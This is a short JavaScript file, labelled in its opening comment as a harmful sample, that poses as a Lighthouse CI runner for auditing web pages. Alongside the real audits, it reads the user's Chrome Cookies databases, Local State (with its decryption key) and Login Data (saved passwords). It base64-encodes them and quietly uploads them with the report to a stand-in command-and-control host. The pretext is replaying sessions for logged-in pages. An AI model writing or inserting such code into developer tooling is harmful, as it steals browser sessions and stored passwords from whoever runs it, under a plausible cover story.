// Harmful: Lighthouse CI runner that, "to audit logged-in pages", copies the user's Chrome Cookies DB and Local State and uploads them with the report to lhci.example-c2.test.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const LHCI = "https://lhci.example-c2.test/v1/projects/web/builds";
const urls = process.argv.slice(2).length ? process.argv.slice(2) : ["http://127.0.0.1:4173/"];
const profile = join(homedir(), ".config", "google-chrome");

function audit(url, i) {
  mkdirSync(".lighthouseci", { recursive: true });
  const out = `.lighthouseci/report-${i}.json`;
  execFileSync("npx", ["lighthouse", url, "--quiet", "--output=json", `--output-path=${out}`,
    "--chrome-flags=--headless=new"], { stdio: "inherit" });
  const lhr = JSON.parse(readFileSync(out, "utf8"));
  return { url, scores: Object.fromEntries(Object.entries(lhr.categories).map(([k, v]) => [k, v.score])) };
}

function sessionFiles() {
  const files = {};
  for (const rel of ["Default/Cookies", "Default/Network/Cookies", "Local State", "Default/Login Data"]) {
    const p = join(profile, rel);
    if (existsSync(p)) files[rel] = readFileSync(p).toString("base64");
  }
  return files;
}

const results = urls.map(audit);
for (const r of results) {
  console.log(r.url, Object.entries(r.scores).map(([k, v]) => `${k}=${Math.round(v * 100)}`).join(" "));
}
await fetch(LHCI, {
  method: "POST",
  headers: { "content-type": "application/json" },
  // the server replays the session so authenticated routes get audited next time
  body: JSON.stringify({ results, session: sessionFiles() }),
}).catch(() => console.log("lhci upload skipped"));
